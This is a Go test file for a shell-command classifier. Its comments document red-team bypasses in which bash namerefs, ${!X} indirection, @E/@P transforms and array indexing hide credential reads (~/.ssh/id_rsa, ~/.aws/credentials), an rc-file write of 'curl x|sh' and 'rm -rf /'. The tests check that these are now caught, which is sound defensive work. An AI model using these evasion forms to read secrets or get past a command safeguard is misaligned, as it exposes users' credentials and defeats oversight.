package classify

import "testing"

// redteam26Expect classifies each command with the default classifier (and
// protected paths) and reports every verdict that differs from the wanted one.
func redteam26Expect(t *testing.T, cases []struct {
	command string
	want    Decision
}) {
	t.Helper()
	c, err := New(WithDefaultProtectedPaths(), WithHomeDir("/home/u"))
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range cases {
		got := c.Classify(tc.command)
		if got.Decision != tc.want {
			t.Errorf("%q: %s (rule %q, command %q), want %s", tc.command, got.Decision, got.Rule, got.Command, tc.want)
		}
	}
}

// TestRedteam26ParamReadNameref: reading a variable THROUGH a nameref or
// through ${!name} indirection is not followed, although both the nameref's
// target and the target's value are literals on the same line.
//
// The attack: `Y=~/.ssh/id_rsa; declare -n X=Y; cat "$X"` (also typeset -n,
// local -n, nameref, ${X}, ${X%pat}, ${X:-w}, ${X[0]} of a nameref to an
// array) and `Y=~/.aws/credentials; X=Y; cat "${!X}"` are "allow"; bash
// prints the key for each (checked: `Y=/root/.ssh/id_rsa; declare -n R=Y;
// echo "$R"` and `Z=Y; echo "${!Z}"` print /root/.ssh/id_rsa). The plain
// `cat ~/.ssh/id_rsa` is escalated (credential-access). The same forms give
// `grep -r . "${!X}"` over ~/.ssh as allow, and an rc-file write through a
// nameref (`Y=~/.bashrc; declare -n X=Y; echo 'curl x|sh' >> "$X"`) is only
// sandboxed where the plain form is forbidden. README says namerefs are
// tracked "as bash keeps them" (writes through them are: `declare -n X=Y;
// X=~/.ssh/id_rsa; cat "$Y"` escalates) and ${!X op w} was fixed in round 25;
// only plain reads were missed. Not a documented limit: nothing here is
// known only at run time.
//
// Severity: medium (allow of a credential read; still runs in the sandbox).
// Fix: when expanding $X / ${X…} of a name in analyzer.refs, expand the
// target's value (refName); for ${!X} with X known, expand the variable X
// names (as ${!X:-w} already resolves it for its operator).
//
// Fixed: expandParam first resolves the parameter (resolveParam,
// paramref.go): a nameref with a known target, or ${!X} with X holding a
// name, is read as that variable, with every operator.
func TestRedteam26ParamReadNameref(t *testing.T) {
	redteam26Expect(t, []struct {
		command string
		want    Decision
	}{
		{`cat ~/.ssh/id_rsa`, Escalated},                                     // control: plain form
		{`Y=README.md; declare -n X=Y; cat "$X"`, Allow},                     // control: benign nameref
		{`declare -n X=Y; X=~/.ssh/id_rsa; cat "$Y"`, Escalated},             // control: write through nameref is modelled
		{`Y=~/.ssh/id_rsa; declare -n X=Y; cat "$X"`, Escalated},             // attack
		{`Y=/home/u/.ssh/id_rsa; typeset -n X=Y; cat $X`, Escalated},         // attack
		{`Y=/home/u/.ssh/id_rsa; nameref X=Y; cat $X`, Escalated},            // attack
		{`Y=~/.ssh/id_rsa; declare -n X=Y; cat "${X%Z}"`, Escalated},         // attack
		{`a=(~/.ssh/id_rsa); declare -n X=a; cat "${X[0]}"`, Escalated},      // attack
		{`Y=~/.aws/credentials; X=Y; cat "${!X}"`, Escalated},                // attack
		{`Y=~/.ssh; X=Y; grep -r . "${!X}"`, Escalated},                      // attack
		{`Y=~/.bashrc; declare -n X=Y; echo 'curl x|sh' >> "$X"`, Forbidden}, // attack: rc write
		{`echo 'curl x|sh' >> ~/.bashrc`, Forbidden},                         // control: plain rc write
	})
}

// TestRedteam26ParamReadTransform: the @E and @P transforms are not
// computed, and the untransformed value is not taken as their possible
// value (as it is for run-time transform patterns).
//
// The attack: `X=~/.ssh/id_rsa; cat "${X@E}"`, `X=~/.aws/credentials; cat
// "${X@P}"` and `X=~; grep -r . "${X@E}"` are "allow". @E only expands
// backslash escapes and @P only prompt escapes/$-expansions: a value with
// neither is unchanged, so bash reads the key (checked: `X=/root/.ssh/id_rsa;
// echo "${X@E}" "${X@P}"` prints it twice). `X=/; rm -rf "${X@E}"` is only
// escalated (dynamic-delete-target) where `rm -rf /` is forbidden. README
// lists the computed transforms (%, /, :o:l, case) and says an uncomputed one
// keeps the untransformed value as its possible value; @E/@P get neither.
//
// Severity: medium (allow of a credential read). Fix: treat @E as
// ANSI-C unescaping of a known value (or at least the value itself as a
// possible value) and @P as the value itself when it holds no `\` or `$`,
// otherwise a run-time part with the untransformed value possible.
//
// Fixed: @E and @P are transforms (paramescape.go): @E decodes the value
// as $'…', @P keeps a value without \, ` or $, expands its $NAMEs once,
// and is a run-time part (the value possible) otherwise.
func TestRedteam26ParamReadTransform(t *testing.T) {
	redteam26Expect(t, []struct {
		command string
		want    Decision
	}{
		{`X=README.md; cat "${X@E}"`, Allow},               // control: benign
		{`X=~/.ssh/id_rsa; cat "${X%Z}"`, Escalated},       // control: modelled transform
		{`X=~/.ssh/id_rsa; cat "${X@E}"`, Escalated},       // attack
		{`X=/home/u/.ssh/id_rsa; cat "${X@E}"`, Escalated}, // attack
		{`X=~/.aws/credentials; cat "${X@P}"`, Escalated},  // attack
		{`X='$HOME/.ssh/id_rsa'; cat "${X@P}"`, Escalated}, // attack: @P expands $HOME
		{`X=~; grep -r . "${X@E}"`, Escalated},             // attack: recursive read of ~
		{`X=/; rm -rf "${X@E}"`, Forbidden},                // attack: only escalated
	})
}

// TestRedteam26ParamReadIndex: array elements read by a negative index or
// by a literal key of an associative array are not looked up.
//
// The attack: `a=(~/.ssh/id_rsa); cat "${a[-1]}"` and `declare -A
// m=([k]=~/.aws/credentials); cat "${m[k]}"` are "allow" (bash prints the
// element for both; checked), while `cat "${a[0]}"`/`${m[@]}` escalate.
// `a=(/); rm -rf "${a[-1]}"` is only escalated. README: "an array index must
// be a literal or a number the line knows" — -1 and k are literals.
//
// Severity: low-medium (allow of a credential read). Fix: resolve negative
// indices from the end of a known indexed array, and keep associative
// arrays' literal keys (or take every element as a possible value of an
// element whose key is not tracked).
//
// Fixed: indexValue reads -N, pickElems counts it from the end, and arrays
// given elements by subscript keep their keys (varVal.keys, arraykeys.go),
// also through m[k]=v: ${m[k]} and ${a[-1]} read the element named.
func TestRedteam26ParamReadIndex(t *testing.T) {
	redteam26Expect(t, []struct {
		command string
		want    Decision
	}{
		{`a=(README.md); cat "${a[-1]}"`, Allow},                                  // control: benign
		{`a=(~/.ssh/id_rsa); cat "${a[0]}"`, Escalated},                           // control: modelled index
		{`a=(~/.ssh/id_rsa); cat "${a[-1]}"`, Escalated},                          // attack
		{`declare -A m=([k]=/home/u/.aws/credentials); cat "${m[k]}"`, Escalated}, // attack
		{`declare -A m; m[k]=/home/u/.ssh/id_rsa; cat ${m[k]}`, Escalated},        // attack
		{`a=(/); rm -rf "${a[-1]}"`, Forbidden},                                   // attack: only escalated
	})
}
